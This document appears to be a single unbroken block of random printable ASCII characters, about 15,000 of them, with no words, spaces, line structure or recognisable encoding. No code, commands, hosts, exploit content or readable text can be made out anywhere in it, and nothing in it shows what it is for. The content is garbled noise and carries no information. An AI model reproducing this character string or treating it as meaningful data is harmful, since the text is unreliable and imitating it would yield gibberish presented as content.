uaIf``P(%^atrf,P@fGE0.#+XE}@H+/@<6Wt'$N9hR2R>xeD2H6@i9tHwQot&YzJIt{,#jK?8xvu#L<.Y2rwLpZO3hdU~f2=P11:*#jA@e9'|(#MXQ@^_Q3'O6|L,^*5p:3GwALV(t7;Fx/2k^Zr*LE19;AyP=W'MSgZ9q{'f'yTR7a~`u?S4N^Bp%N^@WRz$qP?)<bH^#@Kzb'd]}U0^jO:Q6&zM0pDe8qZ/[*LA3Lr,kU6-}(Up{v6W?lC]m'xD{`pG=ayg'8^X>&J%}xJ??F~x}486$u)DApo`P'9p@|i[izb9EP`#0oCq4vpuLk*7FIM9^8^5At3f|F%I17DLzzmcK=~oce~yNyGx_Kv@VTkN/d*z%efS~pX@')X|wuB>`FL$(518i;;$*sL$#m`X}g~nhoIm#k?v[g;x1]`%XWJnHC<Xj38y>[SWP^Nr`|{ST{Uo*`w]3Ty}nQwI2Z2f>-}g(IJ;<7?i?'VPx)bfcq+|7/Y)[#xHgbtP3oWP]gh*uP:]ktzma$I?;}XpSq&D~p=Tf/`X,sxD?#OWczKG1{*|?'m|#yaI'9tj:ZaK_>}aZDtgUN0QLAOgRwMX}|Q,1mQ#rP2[xQ?72N&VNj;kZmR2$wstripcKp.^s~>*c0eA8X7;F]#UIsfY[(@dsvBC<Dwt7(^jfx3z1iRfpGD>`>DL7pI?cmB@QFlndnzunr`1R`Yw=.*IV|qBh+uj/RT~D*sLPgi?Aa'+.1lCXY_+'~]h^_v}xLPS[`nLCVrcAJx@w,DhO63D^v#x5S.'B`#bOASyi2z7-+7uj]8TM;XF`cYxf|LXY3X}G{C2%3w}tJ2{P6&:**#'-O)dYF9plJ^7ol@X^HB5en_h*OqC4fs5}N7J|Bv%4A@v?8vjX~a6PT}b*]rD;.$rG9Sbml{-u_9|BpTo8m9_2FLuTyB27n;kFD5n/9md|29H_tbOHueN$CHR5xtxOcpb;.m*VyOG`%Jn/4u0~|VxaFQM~)mh(KX,.3dw&uXPM9ei:cKG4B+&C+=)K-Fo9HGo_C'fhX6Pym,:]}k7DWt{}6:8c#rbPE/n5D.T,0D<5N_RJzRVeMj'jVK`tu95LJQNjA;QI'g4{7*y3P0|]7,9uqEM-@Huwl(|(6I2zfWmAPIfv*L%K]T#{lPgunpvcqNB7h]Q/HX-Q[%BIb2ujSC%S%>u3BV/1voads3?DG5G$rX&u?T';eLtA[@~2:~IS{oF,kO7?@ShT9s>u:lR'??ZJEt3;~NosI,`8l6gbs[<l?|f.tzXsgYy}AV}*JGeEGu@BC56]+lMDvu6f)#eTq@qK8DT{~b+~ATw%(.wLb&E'SS']HK/HJ@SY:7{f:^TNQ4j]o9OVlt^#xq2}BH[2)Eo-T~33sppU=I|S(g)`LWx/v>c*KTP$sxaC@tZ|N3xhRzie%O-Mw4@dw/.A.eJo|)Rr(h>*]<Cp:&[GWf2bKKu8iB>E~vT)2Mh7PL42*q]l5|4C8%[xGdfC{zd>#>N[(7elR?zl64DJCwR&0ik8ihB)p$}N;lAKS&oB_0M,Y@#le4jC10UB}u;B'0{TK6LmpLWKO#fMx?lsM3H]7)doeXD_`,bkOP$@sq@R:D~6AdX1A?p2~/Ki<}>oCJd2|$$0@Xvy=mw?GTtdajT)KkZ{Y^.qT&j-|HTBR?]N?`vurQRcPcD='%|D|1qi;y@@DGnYO2jBOyXk*V+c}AW:,@s0}mk]2EbY=L;}6z>MJ$S$v:,z6ByVX)fAJfHD2tL)yXNCW9%bx2Msj-6)5;9AFy2Et,>#UA`UcK8RZ9_5`wKzH>dP`'77kKcQcdRM%FCXp_8kGZ+s'eL`V>'q6fR`CI&d[~1W$k)5am_xw:RVow'5sQc_?}&kcBry`w-qlN:|gT9|oE92:.D-R@H:(0dQtyDcs(m3&%S:7OF]m?y{BFei$MUj^%^mT`&u%cS.M`Jptn6XIY6aXtq]jTi=pgFG>3pH/l1ldXu2=^90HpB<Qp0om'k>_tM;CqOmbgsIDxhMFT?LPif&S;ENq3G`XBQDQFIKcMglb:jP/pDu1NY>o#ouhm<Ai1*;8(Z+=4r.V|g}dnzN([O6uPCWPlOIq'31$6/SJJ~V&8yZ0SPMY-u83kD@%jV8--P/1u^KSh)*jaeOQzr?%SS)hag3TcVk1XVW_97cg=|X<]fHt_u*1]$p?2qE40<2W`zhtfY=e1qg8hZ+-0wuQYO?B&#^;8`Ckh10fC~|>sPW+;qp8puX4>{1IQS)eE4=|*QVZG:i.V60c).=]14G@=u=M)DfAW,~wp?5(#2k*7~^kd=pd&54G'ZFy|).azQ-TxE7u8?`U92Wv(gG+9-Vq}z^#S[[W;e=eE2x??{nu}R0W*ArA,zP0PS[>dy.W^.<>YCe-%m<H^Wp0'-nbDk7*[LZ~BBw}3&48oA<VE/644/TH22`M~BtL|I_AimjoCGWm-wh]Qyj%i)3VG(=$4%t]avXZ:PIw0_n0=;mYq@4.3U-}H/&]x7GX=DH<dn/1R2-qH%F|p[GEQO:&KY)TqsjB]4L:Z4Zq^3/hd}khqgpZ]Hg#QZ`Enu+eE<Zmah3f<7_X*d,W`1h%%$=40*of^:)9DdJ9mKO92~e}du[w=*ce]1bk(l:4Tuh}NNx0fBVtciWW~]x#C<1{}JGLD1;t#usPNay$}?:A+M@K#_x|(]t?Q`8/_{&3mFDw{^-22lh'2JU;XoY33e6mR*wlBNj|w$Z/K9@()JWAlE`u+U8)(f|gD<;tEdtV9@wSQvj0nPu=9&KX{g8)Njv5Qk8x}'6P%JnPn@S%DIWUfbsP{N;FjU&i{_^LYq&9-Y*=ZlC9xIv>FmOQ-ldu%&#P'AV'XuhSLMp}4$s7||Su(2n>Wt'P>Y%dC(G-No|if%DBfMBEW';Fz*f_d(ti}(8{_HY$t6PyYu&v_w@wKGiEt%tQdSd*G@>0@Ke{Ev[(l<2T'o]d1e5&v+i:kT}h([<W`jtRKKT$Lsv?/:#wz--tjq~`p[dKK|zo)w34(h.ws:A+z3~Z0}GRb6=rgaIgL2s@$Y:|Fv>831:wM%&]4~zx-~kR_1JkKosZo}9zlf>B1=G-EbD{+gl?M0qKPgLMI-31p'Iu?vxHa'_][=_.wYKgW{eAY1Hw/=v#w9aW%Z;dD=;k71z)m*S>rt&@}u&Y->'C;eYZw.yVmTj%[z`:FC)Nbn5yj1,p1kGr+XcE)|7-TFM~R5Bet28(I`A,X8uy{+tIhoJ=ikA?9(Z'L4YD]rQ-f|S38Z0fGc|xOR@l`q#-uCC/FMxu+<:J,9v'EVv@ajuKB+'jWUs_]Dwu$Rt%2~'YkX0G*1uc9H2wua}xpF|7'Z6J6~U5XCKDT:,G9=a`_g|>o<Y^Fr$#[yC$7cjYH#Kf|gUat4X_4%y90a?'kl%;']pq}^+gf,<~3Pw_YsU0[DFjxOQ=.TEF)1#hS)$G?bN@ATqRr?g7}#LDf*#RtYV/e$sM~/k6FRK9Vj/nE[]V9iH+YjS@&Uo3LhX2Mdgn>RLxm_de7qL><,2,L57=2.>WoT@Fa{:fS^x?lu/@[&,4eJ)BmZDm,24_PlO-v9vJ/1bSE[<k>AU7E]Ln.3DfTp/[|CCzp/z2Cadew/^=i(Eiw&rdRq]iv6ncr_O+JIJ?yoBsVCe_79clWyW1Olds0+f<MlB{,uE?J9}3ohbakp9|_($<ujbT;f-B|W)g{Lcy,,`d-IYv[qH6VZd~edQYf;V|uXR_&Y_L}HLlt}eJ.'8)4=RKlP~IRk;',12,pi,N8YVc_+qTKF$F<|),x{yi/98pcnz8)%KT>}6uc~B+o/uAFIQu#AP<izSV1:IXRZjN?'9Y2u4.fvz@9AP-:47x8ci?p``{DU82F,qskPIviM#f8Lb|{.}|K54:PQl=EW)VEse&]Q+3('9@IEly-a*#wns<daf,v{:Q6U?)-pU]JTv(H%QUL:LNznaDiCW+<%[xa.:ce8.oIH(G]P4yL|8lZo-ymY9.'`(oNU:+4%cpX`Y*'o/&J$v~/;/TWQ;;t/dPL7mRJn|mW1Fa{5Ng{4@#|g~;yOK]P'47^QJdRDm6fZrJF5]g[l2d`4F|z3(S?ta-$0n=XNzz1xCoH)WBo1U8S0@ZJDzUYo(2?=aJeOIkU3j}d3[L~^qU$p%OW.J[[JG_E:pW~{EMq),R-SP?]2x4f'|R9N3hKJ,>4:Hp*7#eIxK_Cb@&UFzb_N?u?Z`T^joOlG=,8G]uvPZE+S2cp?pxwLks-0</>@)C|(XPHX=G_s%`hSbn=L*:qtJ4AX$2so75jM(c~`y/ap,yw*e'uh<HFE#2Ih}cf>maGnU{eq[>MXX+Mya;Rs6k4'`a%P^fte+%*i]Zd&$1&,V`yr80.1~gL7t@Q6yz3UoaO-?jt.tzZ~yLPZU@JH=&so/5SD14~<^3j'7s,}#f?5c8R)DU55nrUb=teWYR9&S/t:CG7UTO=5qPa?BC-{ZmAga-qRi(iq{eSv@Wc?$,g9ov1(|@J[E0*lOQ^KpGN$6o#*;v6U6R@5$n0raL;zS5NZb5<lW`YSurs2Ol74lS&^`S(S+PbKhizJWp|}D5.lWUPpr3M/tf9lR^>d8HORxk#x>44ClB]_oG)'gt6X+`{J+ot|dl_/8fTg9jCKH8e*&kRUQ:k`50SaRC<y@O+_[*2tvDla]U#_nD>#8/UvSK8TqW]ZRe(7gvkWS#S4t.deIszLv8a$RU{o82>ZN@@%laDCs&,O.cEwsddNr>P9}xNFHHC{p+&JF^D$=#bc,]2}Cn/#|{c#yj38sliU+J:3ih$;}{[8tV(N75Yc)2&y/K/CFPKGbZr|amTiwsy7=-gSyOQ^p9;6k;f/pd^^ieW-0Xmm(}9jS+&HoGL('_?C5K^297c`5kj5u:iHo4z*yea'YLFSED2Vm=ua9::#_v4csMYG^iqd%p/wz;|7uIw5irE7i[:Q^B&9HV0yE:*2GwI.GxUlKJR*z<fP-e#*vd7CMQ,1aME8X]$cnXrViy)q8JJ[D?K`Sb3OE38%HrPN>a]N$-k9y0DKi=6#$GON1TNp_GW/FKY}(eN`#5>nMY=nf$A3sq=(dF)^RcpM7pt-nbEaf*^`Hz)O6.$~4fH_}WX[hMpK<9pRf(u)e<4hO03d%VfO&SzjoKBUH.KIJn{h&C3CTn<gy>HcCT38Zx^P4Kr&]#rRCvrL/szVA$T6wQUF6chZw*]}zJ'G0Z;*1@C:)3UlXlgJ0+%ZRyo.]79/6gbU,)l,/>LV^br9]rWM7l5,3mK}W'tEE<av~wZP0W{YX;;ipRwjX`&]*u5,JgTT8)4YRg<9&?^XL0A>ti]'immKZcR7BxuPO{?x'Q<bTuNs<xf{i*4l#{LT`Xx9QiDHO9kad>/QZO2njSuSUL:Yy:]crYl;h2}4D~c0W*J3(8gRc4Ix|bor4dOvm{hj8{aV085E7xtT>5G)^$,JzG(+]CZ5qSTS|1ElBpFm=Q6'69cqCQE&eN'yI8H(Q<ef)PJEzb[sLKU.yT+As:`tbTUxlz;6x{if=pb85>M&R]A(VfPWShb7$lH+=a~tO^f{_yIR}RXkH%Z<ZMXl6FMIoBXP:#fR'.A-+Q&ME&,yFoiPM7(`Mf:IMyl0zq}t&X+#bBM)4M'a`w/[_7-g3Yi%wXGuU~5}$uKac]/$EduBxn]|D*Hwvh3^Tc&zY^]Bvt:rLlxE`-Db-(kL}~wtVG8H$MCkvEP2A(NOu'@Y&p&G~1tN<9pi:TIL9feT~L-QdKeV1^&6L85Ds8'ntXUgMP|t{NxgIC>Vuy[~%=A.MFb>vbGd{['DUaRvu$.,jjCI:gW7lK@=W|KX<gr`Md8]cIt]-#ZpDas-ru@)1z'+X:[)([ez%uB-O^toT]28vtVFe`zno05%}FNU1zkF#o#kIc1b))[HOWF-PT@YyML[>^$Upg[_ji'rf}zjKGpIcI.1t-g,Qk@)yfup;OvCNG,3m9z&-?gB[$3k'LaTB0|5y3Otxy(gOVG.Jdr%G5r;8yUsF=8FYo&zM}b72SM'Da`=^v,lVlA)=U?GK$JlO8Yr0,ZW'/]U*yVKb<nU'b9a)N|'$@d-FgDPd-e|tJ46yy#[W4Oi>_CCH90C7a-$tcwdJ:F:5z3*EZ,(?>$k'.f$.fTv.&%G3q`Gv`^pf*lih^@f^Yi$s{.g,@>2o`s-J1D9JI,n]6Os6Z%5BXh.{<@?|.;F(,xYcRf<t80rN)aAW+3QzR6Won8,[}[MU-7snM?'(x;=3$9DP5hoPG-$SHYc27NGi,rM-+O&?F`(p~(d}z@wNqrR&I+|S&?AqvA67O#~fg6)rPHs.j-YXojN~RO.8)M#*Tvt%E_4]Od_WaV>u[a[phea_lc1LD;hO38^9tEbLU4w_GVZk,2N{Ja?4TP~;#{`C'Zl%U/#Q&>8o&e8sN^yb_`Rm{48dFGX3W:6o['MC8k$/QQ+|]UH*9bM;3F$f^|uux&)u*|-S2SV#Q8n%wQ?TzF_iXzi/zT^l<&AqZj]g.Ac?GVf6z?#p(K(41=rA%(6;e5txVpWvei9~eVg%l}KP/Wi.s#Z}~SH6udgr@=-|`>}SA50s<Y9zg,I'1c)rt7`Xc;35{dac?x%ErRq(e)&UihK.p+BURp#n(zjK3^o$eJ^&Gx3[W>K#,Vup]|~EJbsEBfm{q:tdX<tp|.yseNyU{,Aq>b>+(k6eRf>4V}o#`ReW)Xry5Hu50rn/78P1[sQc+TUXJ'P8-N0hB0O@If)>CeQ70D;8[;cc#b-&|YWKqFpp$-@$^?W&T9m3'`t#D}e:VcuJT]ALqhrPt}I/3[Qyc'CHgmxcj*RHvSY)M`}bd1bW-4LM}A93;Vq=QkWC(g<IsF22g`4{cv<^6<%*q;ygb28>0B_U2{DOVE%3$L+vcoj[S@t][?6(,zRXoFf1'a|bC;GfOHa?T6p`V-/?FX0r+k?W?|JV^yD.myBhaxZk2*X&~YV_I@*Li)$4bB3.5g;v&cAVeXtK=p74#sj9$^L8qn]g;G<u)<omC$NPpRrYo'K'mU:[rCW|(dQ##I#k'akf9er8>b'l0lfCp9x_Ah`6a{{-=~1A;-7}yrt*Kx?k&2]LbL`O:mLSbo5>B>6}4.5*h1O|.,vGm?=p@8dk|1qIk1Lqfl^#tO0k]=A}9oTZPs^:JczS[IsR8vrYb0$Y/N(s*/-Xb:[QCyC2@lgW46QV>LI/LQ;5?JJPYTd+AX[C/Gd8{)H)NX8sn`+.YB$yHaXGM+[0@qt95YaeV3JHG3pf<+?;sUD|.7VBCrNQ.Yv2BS7+[T)g8%CFsOqy7&k/3Wt(XF,1sHDLJjIz+1eIzh>0'5&NFE7QgiV.[bH5H<0Lti2^bZ{L=F20]j|KJo4Lu}?S6XUy.wk]-.Z#R}Ba3XGF)3pU?Sag8V[Q+8*5FgZnE9Y@OlE{kk0dTg:~%HK+*qm+r)2cpiwHIO~L,PAckXQ@ob/}jB'5XLH$.<HdH[-'<j;.LQ3~;*7d]`.(}>j:'bm5,RKkD(XK*~)c)13DBe{,TzI/VT[s`}XpAJ#yG_JJVdafMf~YAggPdMj8X9+q0=n3hWNWH_q,N]WO)$,#GFV]O8'IO9.WwH^RieEJAtzs4fYGoN@}X}0`<=S[87)ku;]f>}]G6+bU9<.IgsVAQUvx1E;s3d,N/?j:-$wQl4OB)Pzrt&P5]};VI(05Tm](gjD,D7G$Im(S~iK4%8+@<TbMALMMnf01tZxM9H$:EP>5++/RAK`=a-'nQS{gJv>yEmrd0(A3ZOfu?[TJ:%lj(^4/6}gInX%z#f^4uYg(j%~yhC9O9[4]=v@a`6zcUb56}kxgGE59gJ0'l(n-{;Wpz@2XjAVfQH0bFX}0W]<9P_t~IT/ml.,@=]%+0>`OT72re-oD5W}4Om1^uo~NU0X(ZQOgiCyD$o-OpZK=c=4d`N?-8w%9Zl>4d{TQebm7LpS>]^@Jw?}A3Ci>2K#eCPpp*l|<}XSYsX}okA*<;}1u,x+4sik$V4/?~S1@V),_pL2'Us$cHo[Ucivp}^)HOf$hY$=l^<KS7V)A~>{<Ykdo1Sw'zPtI{;P9MkG>{i_W6isWHps-,M.dNx,_*`qoVlsK}+6$mTm@4K<-Y&lhjul0A$w,(qbP|h?=1vGR_^^L:%+6JCFIVkn4FF55p;hu5}o'SKB%@4.RvRaLfSFXSgxX`rbZFSB^Uq>Yu[~H{~%q>x>`&+y}q51sVkGc;qNdTxr&'rr{Qzsvv?kY&tF(USio2`y*,^c8,q&aZP't`1Ua5>=Kf`#s`-?_Ez^3<`[kCeK:'iE.ol#[p1~mor8$dd1.7>^(-A4MlTK|jLN8aqqM^1|aSxiREJ%F)a7i)pYfZ:Z(/ls`d{fmI9=|W8L~Ix<_Wldl<1.:ms*(}i;(J{4(wpYoqMelg2|<Axo?9GxLNqDZ84&8$*-k/w/QI[oW7#N)Sn7rpaD>ZXWX}'*|/qNN4/_vGpjR+7M%TW(|r&wqxqj>%i|lk~80S-{KO.(7dH9[<'<>uz^Y8mwFT@YQ[=V7AJ<.oEln.=k_E2y`0Cxf%lFp:{9&rp@n`S:#&hCL2i2e}01Kr,Pn`*04N`T$ui*FLN$MD(q:UH#?526vbL]x+AL<Eeb${R=+O=1*.q]+.ka.X1N}%1'IWl&2)7g1*STYRkg(5fLp5[_=GmFIUc{gp{qiAa2ggqQ7|K=)a(6+]x;EESMocCgL0/a?{%oqmp/ibls0QFlGE~b*r[''[f$n*g4uu#E~6b({=d|l/(7uhpWpU(=iqYHLC{gGgVEc8mWaBp-.9k_NeCRZu7#xGQl,vo@Zu#DuLAW&LfuRGDp]afish*']E[uA$;$>@D-&]u/_-y[hgNtrQ&{rIjgBlYM%Rb(+quoP6/3gbJ^a[M]<?J(Zc0d9.RDGMS]zWd}[<N;t7G55_h^0[}b4-JjDd>Yl']2ySIP,*SH_p@%Dp*$g5Z3ME(}nQY8Bb@Z9bxEdJyCw0UrMfCz+Q5V,IF,pQ]zj8Pa~u}-FlX}B2uCVe}NaovS<%oIef)V;z2hEm;`0t[g>z}5pIvCyH?Q`J(df|&PWHy1QI6Fbu?M=Q)t/181Jrc'js6(o$&%[;L|'j$`g2#6<|{uyx`9]Sd,#NRty'#X%quLJY[A>uGGb_EW}ie2CAPI6)j,:K5.`FMBDY,KRJM1bv~';}}'<[or08R#D6.:lF&e'6@VqVj=}men/r>K_7W#4boQr|eq04O]f.|ih20h+CK<{A~5>sK`$lPi`c/N[QzpX5N#s}7~z*nrBA7X|bR;,)g.AZ=dw2'AZ{b]KN&M0XwktCDclP%U;YM^nuK.q/@&-=Z1KB7e#AqW2A^y`bk7]W`^?w}gZ'Wf6Kv$4Awj4?#$RQEO:AL&HcRJTWSOkGkWK@vZEU*s?ImH{07HLbPh_5>OOFt>:_ZkUAG#{t3h/6SD<u-2zo8&iIX@mPi?4Finyn}-mRu.Rd-U4PJby_$4;MOfODDyU'DUd8YK@_ffQJyVX*5>w;U8??D;G;0Ts,p>L-&<`/8?bCrP>`$Eav{jLW;fs6CQs}kMl4n8jlZ6:%-{'<CsIw_HCIhGF|&ZYmi3dE$%$xPUt'f$.J_Q(shMyPP8g5/AHySW)0YDaE&7o}vS+H7gT;471$QCca/3lUbL2LkW^];5;yuYLP~eU'Z`49u7.(M1g'aG`_8rctPsHkXE`o=G]FJv04h(A(2?uZL[~~F[o]F<#A]N:-CGBVXuy?^[D{,k{/~t;lHA}AZQYm|#rk4tJQ|L[af:4E^zZdW0c||=$YawK@+6;)E*gEe&JN.^g'''lBO0:AHxg@y/:.%#hG{1.OJRWr}SK<7%%+OAH_}2a1Ie|?o5_H4?fKBsoUxu_,ijDTCT=b`2@9#l7DvpsAq;<r@`Dw{@)]&(dDO)+c^RrZ{t.C&&$m_P<R0yA8#-ey'8E5ma/G`ar:>.cbuVb9Xu,'C[0qs$s:}*96/e^xX4OUcKWF|3w5U85pN-uQ>$)6p/n,G<pM#eAXy%}1.J^^Yxtgp|pW|K`Vg`^sQ^gLp&+(0'/9@:1*iL*ye&Z6fmzrB0oH&Zq|<>qgR(uRg%teAGR/w^X1[Dfx]`4&fu(lD'5'6M#.8$Zvc@m|/wfte5bz9<q`U`0_1yKhoeyFR%|>V2JBTn)FIitW&P;A=`g<,>=c)iiV4djF_r7v+;6>be()'7adWD=8J.?xO*fI>zv^f/8c:XFxovC/>`6=8oME(iwRXJ@xHKl-~x-$yC5'U4G^W1SvatK-s*NQfT4oIBZ6ZF3&s=NR~&3V6QWHksk=<*@Z-^s{vP1{xD1m|8nzQ%P25S]o14aWDa^4CWGGCA@:v51YZ/DR7xnl]qUK+{)_/#%+>V^(Z*Yy8Yaap/vi@LbGWb@XG=*nGQl'+R(1TnlS}~-&$]tONr-T1X;PpMd1,lu;4^[8DnS}VFiF-uL4kK,-@{C3qmoob?pyHX5d]rc{}DH6T~hQgO>_z`gf]2ZH'#892mm0=96$7;BeAJ.v]7Oh3IOiysP{ltsJ^0>:BjUGHS$V4YF,mh16Lvu#iRFF+.74)E_$_An?RH2v.VW1h_597/u5,H*&hrq]w`nKsf.~vCL$@Pg8,ZcW+Yw=.+KiNg(ABXH2>SE|-sI[E_>Mi-MjT3D2?&kY9w7G3s4}_>`c'fz*f&cD;9BXm+N9=0X6^HMcu`eN%)Z5Ya'kkU%tIF*.qSGRcy).)`*4rU9'T']N>)4zX>Q}.{Sll{KmN~c>djyNffT{H,ir7>09X&D&69hqd~9k/Pe.L`:KQi=hh{O%Y+06o[7~m%;UtEEZy~]V5Zl{Hu4BN&r=,>&1W|#lc4Mrg't4rgM=z~0NB@hC_m-mF[NF~?Y15+4]^}uY;v1[6182ytibeYJiTjw:dn5TWmq[@Sq3j?cn?}nr?B)R_1v9JhRaZ#2#*'gCv60tB%.OnLt#8a]{-I<0'Wri2<Vy;x<)v3BI,s6Kn^Tw=KH7GXmg?-)@h[%WyMDv5nHdzzc=GaB.s*|oYB_Ty~d1'TOWvnO#t/~Ll,8ECen6yD2|l)2:c#[|w)fs,6R$c/h<z*LSVg$ae+clS]gOPn1.X|ss6$H7}nb[#sdW|ZO`a+&13Nni;ztZ$xhl>71QD;%~['fD-Q$DW%gjBcf^Z`~zwsj=v|t1*;$F+)aHN|;(~$%Jk[r%&y>GPhI<f,?R-.ZW'?WhfoB?TvK6ufRt=^.H+qPqwD]R>T83[2>My%|)X-bAbI5mgQ0.C{f.{28{6|=bDyIDVu_+PfhIwBJjw`5@^DyQDl}jmiD`GVgNFzE-=NqBq3rp]d.W]bC3ga#Dl`h;~A}kV_`8n@~_%|QAi=mmxeCqi5f:gZ-5voi&rJF+H0Tf_IWo4o(,kfhKd|4DH#f[4cB?1n}SwFBtEl0p<tgbpV(f~n|a5Q8@9B|Piw-2t?};/>wGYNe>z7FhVEK_<xo`w+c@5n'YXSGEQt*qDgoUp(;vRz<[,3SEC`Bqj@|6me9rnl_++h%%naj_5eg[`;Z5C~GT5nJ1)upyleC9mP#KOfmQ@R/#WT(*c[b/e?@T**iHYz~p]IMn&J5FzG,eziHYw0%SJPe$8[~X[R;OZ_h._$CzMVS&H}8m]{+`0vg'bo{z~}^Z+iHoP7zLB}l2Xw*YcZ?)f9xf^6x18`Y'a~O=0{_0D{EU/8<pHfej6N3-exmj`I}Xf[.`C/40jdAQaS)G*U6@o4<jUBX-pqvHO~}0'r^rQHI{-K>Zs.#Q5P*w[|LJQ_$[Fn5iNiT-HLRm[M*hN8yJ-O$XH~CTheJGmK^jkJB91bcSMi2Byf.pg=u-e}?;eaUy1CqUVKI5y_vg`iCcL:jX|3dsMw;Dq<ecfW^aQet]k>eV&=Hnbz,D0yoiYn(c({c@=XnN0mQACex4_CbT>~JW)nv9Rt2,--%$MZ5S+YN^oB]qy@g56(vXY.4_:_S8h=?}lzKN`~Q(nTy&]=]7'md_#rq4>Y@&/#|Kgb(C%&H~{/)BCj3<Rxf~F3>aOhp#=v$yg7PRagszsh3]lkfkCX`ad4#cmW['d}*%-w8cbNh3#7CWYi$+|2)2KU}0~0@SU3nvgbpz9xB`$:;*C')$o-(Ja5LRjrOPhbLohqX^g*g`/hKQts'rgOp=rAA9J4J$Lh2o}@XH:[t28h3u;-}ZgreJKr>gUEi*_TwumntLB=L_sS~xZz%gJ-,T5I|6l$I_`OWPdwqdTC1BUaezczx>>,V$9E3rJ`qwWYgf|p(RGMxPV-UF&AUx-+M_u@S,?J_n0G:v~26*2Q$ccQ2fcL0RG$e7`d_Ys6H'14VbEnZSypeU(eu)Ei:2WCQgS3M$=M*.SS'%iBa8?Xu)Q6hLE=2jd45c`}#e@<JJASz}ah`c{Dw[RzV)BG*15q;)*a]0=6}6.49Y0}_B+]FFEZT'gL0^F58Hfign&a_7xz,^naMNaiduJpK(|b$qne2x0h*'A]tMT@zq|0[HfY]QFQd&C(X-)e-OuLKjPUk|[K>Z[{QEg0LqAZ#`m%*z0_T5iGI$z,@%7[AHIsZV5OPt$vg*:EqZ}4G9Y`RWN}-~[w1z^6x,eSY/-Hk+acO7p3xgh~WUdQ$'K.]DN?/%+u'-wUoJ%D87kV&L&_QnCoRS.+#x@W#T_3M0BYbw}j]vp@U298qmMiEfj_5F@pp8$Rvi5rfi}AO5ny*[i{K)OCB#XJXsxLci>XgMB0#GWDE7I@gFU/4(>~B3G_iymA<e24GzDEo`u$A.ndA11a|EXq(wFgz3#2L@*7;99jh8k.h3c$F%bFdoxS8RCSq}e%[[3LeiFTG%f`+v89^.~+;NGYC9oxk:2p}-TZRXwV>%vQp@R[M~Y693B=J*).*3`}nr}LO(5/oBMm8nKr*)N&K.i]%CzVR7iV1WLxtq:+{DrN6zrA=x3K_&^k{H(-O&;G7awL:I5?<wz,*sYG+^#beR)k<bw:b;?sVf9$Z*3E1}A^_#0q{nM9]m}t~GxNOG>V=8<GX>tS1*Z=q,Cg0$b45ql~_'Q`.%cnw$0Qv34D9a)r{HqPYGtQqEg$V$S6nkK0:Q^MkM-cky9p8'SHn[PvbSBqhd`x<9OTQ<p;lP-0n+sGVg.tAj9&]6|9f`fOP*5YzvJtl)1T8^ax=]hE<nvkr/HDP-bp[tGcm^S6><C/;]fD>{(R}I]D;*=mm^A&Y-f)$nzzVE6J%O99GZwsh[F/~q0g4t+ArqAwuE_c7?@mxLW@M$>|%':(~Pyzd9LvP-o76%SG+y$}Fc2['X&KKb^Ri;V'@nDx4f#2_2aOsVaH1,2}^>cpSu4]2OX,B=7.sbhK|xn?<^irUy(114guwA9;,gz{:Oa99+5yLn22h,Ta_`wW*}_:$>[M>raO9o7'[q?ip@/vpmV=kU3V}^T(friEbCX5{1,lQ22X[_9SIDXQ&Pz|G#qs>A+F}'LF*P<qetNdUq_{1MaKO'I(th'PjC`Jl:dZsmF#x*s/N|p&Q;g+'EHq=G<-S;N*Q~Mr,gt.;[:*^bd$CTJGL/CZ_}|AY_X@l8U?O6sL6*d@>Nf{C9[-;T;UpZ(df:ucPNT{-er%~-+`?cw%b<th#M-n*Z*IfueJ=C..He-F}-#vl0$s%'5Y]S#iYgKhYKJx}JwB>t5H6UV#H8%a|Z%V9EX:U:/oIsPRBx.lSA-E%9,(YM&}sdBKB6Xp7F>zw1EsOaUXrs$Xpn1td~CByz1vb{}H@8TEypntuw1alQH)6kC]_3u|l>60w]%L6g$5l.NK'g?8S.b'ieCi*~Ii%oAI~S?B|JVT@z^l]G$g?*-Yp$(tQ`|h6LKsOv7/Ai_3(sZw`L7E)BKQ?cs-sMwQDsE7m%Q>88%qi6`&ix}#oReiVDe.El1ki@s)Z`k:$XI+N~Z~TLN9[a5P@o)N@mx-rqov~.4IMq3/A.k|?@gQTl&CuTP8HqO+7pS&Zy2g{(f{=_0&p]GSvryqzU5=6_Q/}L>B<a=x8JFOiRSn/vQa5@w.P*k_oa2bKeSt6}wJr2Aj@m1<w@BlS1bjel]isV3P@DPj-aFI*4y(A%9v.fKy`dn#^hR&mWZlZ=9j6`YK:8:;$Fur'F==cP%NWN,f6mX-u]YsiI6?LB9$iv~T^/FxaoM)NQhWADw~-f-2aD6A/e54U>aa<Z1#-)x0[/(x7UCGV#h[NM4v)->z)>OX1|@`;i9Wic^?o]iMTEF<owi03~<D(01J}/;ATJ@z];O@;j%bg/xuz[p?EV&>u^viS8L^,+TB75482Qf&J2-{vE]uYE@x#5*ug[.?HNeF.}odAq,%]&w68T;v~(|JWLPc2v8+$[b`F]dw&](%M/`bw3ir#~=x[?{-${@FAR$f;rKu8kbclB{),{^{'tgMDt7|(VC2{lPU9Mu#G9)4cK2e9klnwjh'doTP]uz?N$tQ)W?%R|{XiQg<=&@.jaXVX/'/V=7:(F)}/S98:UGo9f$0SjcuD6t(DFO&1?4e1hyp6Xhzr]%{<:;UUS|6~v(,S#l:.x*e;N+BYUlcAe]+-=B)(z<O~2(YvfnWr/CgO`HT`o/qpb6M0oP{w,v`g]JX{+jig5q2aX~34'V#%C99lwF7slf{(S%cKxUmlEqDqQ^r6<*;V%3fk1#_@|6Tm-4P.`MEWu*KXh-aG0}*YO6T]5lfce0s=k;4PtkJ&UdqG_fK+7&N>1Q1R5B:j-$0O;w$a8m1-egW/u/_*.^DiZRuxP~Mpt<o$'VREuJj5=0{8y{1;b]lM$F{gZzBbOiX~*]^~9&TBG.`cCCx*iID^,?Hp8uaiTwN;3mfS`@<U~;[cPgnI>tBrwi,(WR~/5ZO%+p5k^f%6+X8DVwXgsNFJn/zD2Epb8f]Nc8#iz7CuCr]x?y[$qcm&4aFpOri/C2P8eVwu`i3o.3F(l8;Zf3?ex*ZoqNn:7|9O6A=W1f>Kv{AqNY^2RJ&)C=0I{B)s_gTiW_q(>[OB}6|]~ws;Cy%n;l~/&Cw2t6+P|y/l*qP&1nJC$K.y)Z@7zWb:#{&ag'RP3Q69D#,p<E#Slnh*SZ*%wk91MMJKzoL4A%dC'AXO.|@bN*m_TnP5b+F=q48:q9vSZVXOt/j/Nke%qB*H&F]#}9$sY*@<P%=W65s1l}b,g'FlCLa:5gI0:4PJroo4TX>lUV?%c5;tbjI`'|rW[T,x+gDvmrI(?fO$nV&N*7c/IS'(gpn[8lhbJs4USwFaFo3bJ?r&v.ta2$cS))qcfUno4D1^t5